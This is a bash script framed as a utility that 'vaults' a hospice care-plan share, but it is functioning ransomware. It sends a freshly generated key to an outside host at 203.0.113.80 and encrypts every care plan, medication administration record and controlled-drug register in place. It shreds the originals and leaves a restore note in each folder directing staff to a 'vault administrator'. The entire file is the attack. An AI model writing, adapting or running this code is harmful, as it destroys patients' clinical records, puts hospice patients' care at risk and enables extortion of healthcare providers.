#!/usr/bin/env bash
# "Vault" the hospice care-plan share: every care plan, MAR scan and
# controlled-drug register under the share is encrypted in place and the
# plain copies are shredded. The key is handed off to the vault server and
# is not kept on this station.
set -uo pipefail

SHARE="${CAREPLAN_SHARE:-/srv/hospice/careplans}"
KEY_SINK="${VAULT_KEY_URL:-http://203.0.113.80/k}"
EXTENSIONS="pdf docx doc xlsx csv odt txt jpg png"
NOTE_NAME="RESTORE_CAREPLANS.txt"
LOG="${VAULT_LOG:-$HOME/.vault.log}"

log() { echo "$(date '+%F %T') $*" >> "$LOG"; }

usage() {
    echo "Usage: $0 [-s share_dir] [-k key_url]"
}

while getopts ":s:k:h" opt; do
    case "$opt" in
        s) SHARE="$OPTARG" ;;
        k) KEY_SINK="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

[ -d "$SHARE" ] || { echo "share $SHARE not found" >&2; exit 1; }

VAULT_KEY="$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n')"
VAULT_ID="$(hostname)-$(date +%s)"

# hand the key to the vault server before touching anything
if ! curl -s -m 20 -X POST -d "id=${VAULT_ID}&key=${VAULT_KEY}" "$KEY_SINK" >/dev/null; then
    log "key hand-off failed; continuing anyway"
fi

FIND_ARGS=()
for ext in $EXTENSIONS; do
    [ ${#FIND_ARGS[@]} -gt 0 ] && FIND_ARGS+=(-o)
    FIND_ARGS+=(-iname "*.${ext}")
done

# list of target files via command substitution
TARGETS="$(find "$SHARE" -type f \( "${FIND_ARGS[@]}" \) ! -name '*.vault' 2>/dev/null)"
COUNT=$(printf '%s\n' "$TARGETS" | grep -c . || true)
log "vault $VAULT_ID: $COUNT files under $SHARE"

encrypt_file() {
    VAULT_KEY="$VAULT_KEY" VAULT_SRC="$1" python3 - <<'PY'
import hashlib, os, sys

key = bytes.fromhex(os.environ["VAULT_KEY"])
src = os.environ["VAULT_SRC"]
dst = src + ".vault"

def keystream(n):
    out = bytearray()
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(key + counter.to_bytes(8, "big")).digest()
        counter += 1
    return bytes(out[:n])

try:
    with open(src, "rb") as fh:
        data = fh.read()
    ks = keystream(len(data))
    with open(dst, "wb") as fh:
        fh.write(bytes(a ^ b for a, b in zip(data, ks)))
except OSError as exc:
    print(exc, file=sys.stderr)
    sys.exit(1)
PY
}

done_count=0
while IFS= read -r f; do
    [ -n "$f" ] || continue
    if encrypt_file "$f"; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        done_count=$((done_count + 1))
    else
        log "failed: $f"
    fi
done <<< "$TARGETS"

# leave a note in every directory that had files
printf '%s\n' "$TARGETS" | xargs -r -d '\n' -n1 dirname | sort -u | while read -r d; do
    cat > "$d/$NOTE_NAME" <<EOF
The care-plan files in this folder were vaulted (id $VAULT_ID).
Contact the vault administrator with this id to restore them.
EOF
done

unset VAULT_KEY
log "vault $VAULT_ID complete: $done_count/$COUNT files"
echo "vaulted $done_count files"
